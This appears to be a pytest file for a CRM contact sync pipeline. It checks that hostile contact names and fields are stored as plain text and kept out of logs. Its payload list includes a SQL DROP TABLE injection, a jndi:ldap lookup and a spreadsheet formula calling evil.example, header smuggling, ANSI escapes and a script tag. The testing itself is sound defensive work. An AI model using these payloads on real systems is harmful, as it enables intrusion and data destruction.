"""Contacts whose texts try to be something else: SQL, a header, a line of a log, a formula, a page."""

import json
from typing import Any

import pytest

from crm_pipelines_tests.fixtures.people import People
from crm_pipelines_tests.fixtures.pipeline import Pipeline
from crm_pipelines_tests.fixtures.sandbox import BrevoSandbox

HOSTILE = [
    "'; DROP TABLE crm_contacts; --",
    '" OR 1=1 --',
    '=HYPERLINK("http://evil.example")',
    "Eve\r\nX-Evil: 1",
    "\x1b[2J\x1b[31mEvil\x07",
    "{{ 7 * 7 }} ${jndi:ldap://evil.example/a} <script>alert(1)</script>",
    "%s %(name)s {0} %00 evil",
    "\u202eevil \u200b\ufeff",
    "Ω" * 1_000_000,
]


def test_hostile_texts_arrive_as_texts_and_get_into_no_log(
    people: People, pipeline: Pipeline, brevo_sandbox: BrevoSandbox, capfd: pytest.CaptureFixture[str]
) -> None:
    for number, name in enumerate(HOSTILE):
        fields = json.dumps({"evil\r\nX-Evil": name[:1000]})
        people.add(email=f"hostile{number}@example.com", name=name, custom_fields=fields)
    run = pipeline.run()
    assert run.counts == {"claimed": len(HOSTILE), "synced": len(HOSTILE)}
    stored = brevo_sandbox.contacts()
    assert len(stored) == len(HOSTILE)
    assert max(len(str(contact["attributes"])) for contact in stored) < 20_000, "what is absurdly long is cut"
    told = "".join(capfd.readouterr())
    assert "RUN_SUCCESS" in told
    assert "evil" not in told.lower()
    assert "\x1b[2J" not in told


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("custom_fields", '{"n": 1e5000}'),
        ("custom_fields", '{"n": -1e400}'),
        ("created_at", "infinity"),
        ("created_at", "-infinity"),
        ("updated_at", "20000-01-01"),
    ],
)
def test_a_value_that_python_cannot_hold_takes_no_neighbour_with_it(
    people: People, pipeline: Pipeline, column: str, value: str
) -> None:
    people.add(2)
    absurd: dict[str, Any] = {column: value}
    people.add(email="absurd@example.com", **absurd)
    run = pipeline.run()
    assert run.success, run.problem
    assert people.states() == {"synced": 3}
    people.run("SELECT crm_select('brevo', array_agg(id)) FROM crm_contacts")
    assert pipeline.run(limit=10).counts == {"claimed": 3, "synced": 3}
